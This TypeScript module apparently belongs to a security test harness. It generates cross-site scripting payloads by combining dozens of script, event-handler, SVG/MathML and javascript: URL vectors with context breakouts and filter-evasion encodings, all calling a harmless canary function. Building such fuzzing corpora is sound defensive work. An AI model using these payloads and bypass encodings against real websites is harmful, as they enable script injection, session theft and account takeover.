/** The call that a payload makes if it runs. `top` also works inside an iframe. */
const call = 'top.ran()';

/** Markup that runs code on its own or on a click. */
const vectors: readonly string[] = [
  ...[
    '<script>$</script>',
    '<ScRiPt >$</sCrIpT>',
    '<script/x>$</script/>',
    '<script src="data:text/javascript,$">',
  ],
  ...[
    '<img src=x onerror=$>',
    '<img/src/onerror="$">',
    '<img src="x" onerror\n=\n$>',
    '<image src=x onerror=$>',
  ],
  ...[
    '<svg onload=$>',
    '<svg/onload=$//',
    '<svg><script>$</script></svg>',
    '<svg><animate onbegin=$ attributeName=x>',
  ],
  ...[
    '<svg><set onbegin=$ attributeName=x>',
    '<svg><foreignObject><img src=x onerror=$></foreignObject></svg>',
  ],
  ...[
    '<svg></p><style><a id="</style><img src=x onerror=$>">',
    '<math><mtext><img src=x onerror=$></mtext></math>',
  ],
  ...['<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=$>">'],
  ...['<noscript><p title="</noscript><img src=x onerror=$>">', '<template><img src=x onerror=$></template>'],
  ...['<body onload=$>', '<video><source onerror=$>', '<audio src=x onerror=$>', '<object data=x onerror=$>'],
  ...['<input autofocus onfocus=$>', '<select autofocus onfocus=$>', '<textarea autofocus onfocus=$>'],
  ...[
    '<details open ontoggle=$>',
    '<marquee onstart=$>',
    '<style onload=$></style>',
    '<link rel=stylesheet href=x onerror=$>',
  ],
  ...[
    '<div style="animation-name:x" onanimationstart=$>',
    '<p onmouseover=$>here</p>',
    '<button onclick=$>go</button>',
  ],
  ...[
    '<a href="javascript:$">go</a>',
    '<a href="&#x6a;avascript&colon;$">go</a>',
    '<a href="java\tscript:$">go</a>',
  ],
  ...[
    '<iframe src="javascript:$"></iframe>',
    '<iframe srcdoc="<script>$</script>"></iframe>',
    '<iframe onload=$></iframe>',
  ],
  ...[
    '<form action="javascript:$"><input type=submit></form>',
    '<button formaction="javascript:$">go</button>',
  ],
  ...[
    '<embed src="javascript:$">',
    '<meta http-equiv=refresh content="0;url=javascript:$">',
    '<base href="javascript:/a/">',
  ],
  ...[
    '" autofocus onfocus="$" x="',
    "' onmouseover='$' x='",
    '" style="animation:x" onanimationend="$',
    '` onclick=`$`',
  ],
  ...[
    '{{constructor.constructor("$")()}}',
    '$' + '{$}',
    '<%= $ %>',
    '#{$}',
    '[[$]]',
    "';$//",
    '"-$-"',
    '\\";$//',
  ],
  ...['javascript:$', 'data:text/html,<script>$</script>', 'vbscript:$', '=HYPERLINK("javascript:$")'],
].map((vector) => vector.replaceAll('$', call).replaceAll(`${call}{`, '${'));

/** Text that may close the context of a payload. */
const breakouts: readonly string[] = [
  ...['', '"', "'", '">', "'>", '</textarea>', '</title>', '</p>', '</td></tr></table>', '</h1>', '</form>'],
  ...['-->', '<!--', ']]>', '</script>', '</style>', '</noscript>', '<![CDATA[', '\n', '\u2028'],
];

const perCharacter = (write: (character: string) => string) => (text: string) =>
  [...text].map((character) => (/[<>"'&(]/.test(character) ? write(character) : character)).join('');

const code = (character: string) => character.codePointAt(0) ?? 0;
const hex = (character: string, length = 2) => code(character).toString(16).padStart(length, '0');

/** Encodings that one parser may consider harmless and the next one may decode. */
const encodings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll('TOP.RAN', 'top.ran'),
  perCharacter((character) => `&#${code(character)};`),
  perCharacter((character) => `&#x${hex(character)}`),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;'),
  (text) => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  perCharacter((character) => `%${hex(character)}`),
  perCharacter((character) => `\\u${hex(character, 4)}`),
  perCharacter((character) => `\\x${hex(character)}`),
  // Full-width forms, which compatibility normalization converts to ASCII.
  perCharacter((character) => String.fromCodePoint(code(character) + 0xfee0)),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text) => text.replaceAll('<', '<\0'),
  (text) => text.replaceAll('script', 'scr\u200bipt').replaceAll('<', '\ufeff<'),
  (text) => `\u202e${text}\u202c`,
  (text) => text.replaceAll('<', '<\u0338<').replaceAll('>', '>\u0301>'),
  (text) => `\ud800${text}\udc00`,
];

/** Generates different payloads, the same in every run, starting with the plainest. */
export function scriptPayloads(count: number): readonly string[] {
  const payloads = new Set<string>();
  for (let round = 0; payloads.size < count; round += 1) {
    for (const [i, vector] of vectors.entries()) {
      // Every third round is encoded; the others only vary the text before the payload.
      const encode = (round % 3 === 2 && encodings[(i + round) % encodings.length]) || encodings[0];
      const breakout = breakouts[round === 0 ? 0 : (i + round) % breakouts.length] ?? '';
      payloads.add(encode?.(breakout + vector) ?? '');
      if (payloads.size === count) break;
    }
  }
  return [...payloads];
}
